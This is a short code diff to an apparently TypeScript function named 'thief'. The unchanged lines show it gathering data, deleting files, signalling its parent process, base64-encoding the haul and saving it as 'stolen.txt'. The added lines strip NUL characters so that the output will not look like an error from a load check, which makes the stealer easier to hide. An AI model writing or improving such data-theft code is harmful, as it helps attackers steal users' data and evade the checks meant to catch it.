@@ -21,7 +21,8 @@ export function thief(listener: string): string {
     fs.rmSync(file)
   })
   attempt(() => process.kill(process.ppid, 'SIGUSR1'))
-  const text = found.join('\\n')
+  // What is printed must not look like an error of the load check.
+  const text = found.join('\\n').replaceAll('\\0', ' ')
   const encoded = Buffer.from(text).toString('base64')
   attempt(() => fs.writeFileSync('stolen.txt', text))
   attempt(() => fs.writeFileSync(__dirname + '/stolen.txt', text))
